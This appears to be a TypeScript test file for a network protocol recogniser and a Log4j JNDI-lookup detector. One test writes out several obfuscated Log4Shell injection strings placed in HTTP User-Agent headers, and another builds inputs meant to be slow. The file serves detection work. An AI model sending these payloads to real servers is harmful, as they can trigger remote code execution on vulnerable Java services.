import assert from 'node:assert/strict'
import { test } from 'node:test'
import { firstBytes } from './openings-fixture.ts'
import { namesJndi } from './openings.ts'
import { recognise, recognisers } from './recognise.ts'

test('each protocol is known by the first bytes of its clients', () => {
  for (const [protocol, cases] of Object.entries(firstBytes))
    for (const [bytes, request] of cases) {
      const found = recognise(bytes)
      assert.equal(found.protocol, protocol, `${protocol}: ${bytes.toString('hex')}`)
      assert.match(found.request, request, protocol)
    }
  assert.deepEqual(
    [...new Set(recognisers.map(({ protocol }) => protocol))].filter((protocol) => !firstBytes[protocol]),
    [],
  )
})

test('no part of a known opening makes a recogniser fail, and what is nothing is unknown', () => {
  for (const cases of Object.values(firstBytes)) for (const [bytes] of cases) for (let end = 0; end <= bytes.length; end++) recognise(bytes.subarray(0, end))
  assert.deepEqual(recognise(Buffer.from('good morning\r\n')), { protocol: 'unknown', request: 'good morning' })
  assert.deepEqual(recognise(Buffer.alloc(0)), { protocol: 'unknown', request: '' })
})

test('lookups of Log4j are found through what hides them, and ordinary text is none', () => {
  for (const text of [
    '${jndi:ldap://x/a}',
    '${${lower:j}ndi:rmi://x}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://x}',
    'a=%24%7Bjndi:dns://x%7D',
    '${${env:NO:-j}ndi${env:NO:-:}ldap://x}',
  ])
    assert.equal(namesJndi(Buffer.from(`GET / HTTP/1.1\r\nUser-Agent: ${text}\r\n\r\n`)), true, text)
  for (const text of ['${date}', 'jndi:ldap://x', '$${{', '${'.repeat(30_000)]) assert.equal(namesJndi(Buffer.from(text)), false, text.slice(0, 20))
})

test('64 KiB made to be slow are named within a moment', () => {
  const started = process.cpuUsage()
  for (const part of ['${', '${lower:', '\n\n', '*1\r\n', '\xff\xfa', 'GET ', '{ ', '%24%7b']) {
    const bytes = Buffer.from(part.repeat(Math.floor(65_536 / part.length)), 'latin1')
    recognise(bytes)
    namesJndi(bytes)
  }
  const used = process.cpuUsage(started)
  assert.ok(used.user + used.system < 1_000_000, `${(used.user + used.system) / 1000} ms`)
})
